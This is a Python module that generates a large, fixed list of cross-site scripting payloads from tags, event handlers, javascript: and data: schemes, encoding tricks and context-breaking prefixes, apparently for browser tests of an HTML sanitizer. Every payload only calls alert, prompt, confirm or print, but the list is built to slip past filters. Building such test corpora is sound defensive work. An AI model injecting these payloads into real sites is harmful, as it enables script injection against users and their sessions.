"""Thousands of ways to smuggle a script into a page, made from their parts: tags, events, addresses, letters in disguise.

Each calls `alert`, `prompt`, `confirm` or `print`, which the browser tests watch. The families are those of the public
cheat sheets (facts: reliability §4); the lines are put together here.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALLS = ("alert(1)", "prompt`1`", "(confirm)(1)", "top['al'+'ert'](1)", "print()")
TAGS = (
    "a abbr audio b body button details div embed form frameset iframe img input keygen label link marquee math meter object "
    "p select source span style svg table textarea title track video xss"
).split()
EVENTS = (
    "onload onerror onfocus onblur onclick onmouseover onpointerenter ontoggle onanimationstart onanimationend "
    "ontransitionend onbegin onend onrepeat onscroll onhashchange onpageshow onpopstate onresize onwheel oncopy onpaste "
    "onbeforeinput oninput onchange oncanplay onloadstart onplay ontimeupdate onstart onfinish onbounce onmessage "
    "onbeforematch oncontentvisibilityautostatechange onsecuritypolicyviolation onauxclick oncuechange onsearch"
).split()
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A;&#x61;vascript:{}",
    "javascript://%0a{}",
    "javascript:/*--></title></style></textarea></script>*/{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "vbscript:{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "blob:{}",
)
CARRIERS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<a xlink:href="{}">x</a>',
    '<area href="{}">',
    '<img src="{}">',
    '<img srcset="{} 2x">',
    '<iframe src="{}"></iframe>',
    '<iframe srcdoc="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}" form=f>x</button>',
    '<base href="{}//">',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<math href="{}">x</math>',
    '<video poster="{}"></video>',
    '<table background="{}"></table>',
    '<body background="{}">',
    '<div style="background:url({})">x</div>',
    '<blockquote cite="{}">x</blockquote>',
    '<input type=image src="{}">',
    '<portal src="{}"></portal>',
    '<script src="{}"></script>',
)
BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "-->{}",
    "</title>{}",
    "</textarea>{}",
    "</style>{}",
    "</script>{}",
    "</noscript>{}",
    "]]>{}",
    "</p></div></main></body>{}",
    "<!--{}",
    "<svg><style>{}",
    "<math><mtext><table><mglyph><style>{}",
    '<noscript><p title="</noscript>{}">',
    '<svg></p><style><a id="</style>{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    '<math><annotation-xml encoding="text/html"><style>{}</style></annotation-xml></math>',
    "<select><template>{}</template></select>",
    '<a title="<![CDATA[">{}]]>',
    "\u0000{}",
    "\ufeff{}",
    "\u2028{}",
    "%3C{}",
    "&lt;{}",
    "{{{{{}}}}}",
    "${{{}}}",
    "[x](javascript:alert(1)) {}",
    '![x](x"onerror="alert(1)) {}',
    '=HYPERLINK("javascript:alert(1)") {}',
)
SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script/x>{}</script/x>",
    "<script\n>{}</script\n>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} />",
    "<script>//\u2028{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<details open ontoggle={}>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={}>",
)


def payloads() -> list[str]:
    """All of them, each once, in an order that never changes."""
    return list(dict.fromkeys((*_events(), *_addresses(), *_breaks())))


def _events() -> Iterator[str]:
    """Every tag with every event, quoted in each way."""
    forms = ("<{} {}={}>x", '<{} {}="{}">x', "<{}/{}='{}' autofocus tabindex=1>x", "<{}\f{}\n=\t{} src=x open>x")
    for number, (tag, event, form) in enumerate(product(TAGS, EVENTS, forms)):
        yield form.format(tag, event, CALLS[number % len(CALLS)])


def _addresses() -> Iterator[str]:
    """Every place for an address with every scheme, for each call."""
    for carrier, scheme, call in product(CARRIERS, SCHEMES, CALLS):
        yield carrier.format(scheme.format(call))


def _breaks() -> Iterator[str]:
    """Every way out of where a text may stand, with every script."""
    for number, (out, script) in enumerate(product(BREAKS, SCRIPTS)):
        yield out.format(script.format(CALLS[number % len(CALLS)]))
